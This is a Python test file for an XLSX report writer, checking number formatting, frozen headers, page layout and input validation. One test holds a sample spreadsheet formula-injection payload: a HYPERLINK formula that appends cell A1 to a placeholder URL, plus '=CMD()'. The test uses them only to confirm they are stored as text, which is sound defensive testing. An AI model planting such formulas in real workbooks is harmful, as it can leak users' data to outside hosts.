"""XLSX helper: numbers stay numbers, headers frozen and repeated, A4."""

from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pmprb.reports.xlsx import Column, Sheet, write_xlsx

COLUMNS = [Column("item", "Item"), Column("value", "Nilai", places=2), Column("note", "Catatan", wrap=True)]
ROWS = [{"item": "MP", "value": Decimal("3.45"), "note": "x" * 200}, {"item": "PPU", "value": 2.5, "note": None}]


def test_sheet_contents_and_layout(tmp_path):
    path = write_xlsx(tmp_path / "sub" / "r.xlsx", [
        Sheet("Ringkasan", COLUMNS, ROWS, heading="Tabel uji", landscape=True, notes=["catatan kaki"]),
        Sheet("Kosong", COLUMNS[:1], []),
    ], title="Uji")
    wb = load_workbook(path)
    assert wb.sheetnames == ["Ringkasan", "Kosong"]
    ws = wb["Ringkasan"]
    assert ws["A1"].value == "Tabel uji"
    assert [c.value for c in ws[3]] == ["Item", "Nilai", "Catatan"]
    assert ws["B4"].value == 3.45 and ws["B4"].number_format == "0.00"     # a number, not text
    assert ws["B5"].value == 2.5
    assert ws["C5"].value is None and ws["C4"].alignment.wrap_text
    assert ws["A7"].value == "catatan kaki"
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:C5"
    assert ws.print_title_rows == "$3:$3"
    assert int(ws.page_setup.paperSize) == 9 and ws.page_setup.orientation == "landscape"
    assert ws["A3"].font.b
    assert ws.column_dimensions["C"].width <= 62
    assert wb["Kosong"]["A1"].value == "Item" and wb["Kosong"].freeze_panes == "A2"
    assert wb.properties.title == "Uji" and wb.properties.creator == "pmprb"


def test_invalid_sheets_are_refused(tmp_path):
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx(tmp_path / "a.xlsx", [])
    with pytest.raises(ValueError, match="31 characters"):
        write_xlsx(tmp_path / "a.xlsx", [Sheet("a/b", COLUMNS, [])])
    with pytest.raises(ValueError, match="used twice"):
        write_xlsx(tmp_path / "a.xlsx", [Sheet("A", COLUMNS, []), Sheet("a", COLUMNS, [])])
    with pytest.raises(KeyError, match="row 1: no value for column 'note'"):
        write_xlsx(tmp_path / "a.xlsx", [Sheet("A", COLUMNS, [{"item": "MP", "value": 1}])])


def test_user_text_is_never_a_formula(tmp_path):
    """A note that starts with "=" (or a heading, a header) is written as text: opening the
    workbook must not run it (formula injection)."""
    evil = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    path = write_xlsx(tmp_path / "x.xlsx", [Sheet("S", [Column("note", "=CMD()"), Column("n", "n", places=0)],
                                                  [{"note": evil, "n": 3}, {"note": "+1+1", "n": 4}],
                                                  heading="=1+1", notes=["=2+2"])])
    ws = load_workbook(path)["S"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert ws["A4"].value == evil and ws["A4"].data_type == "s" and ws["A1"].value == "=1+1"
    assert ws["B4"].value == 3 and ws["B4"].data_type == "n"
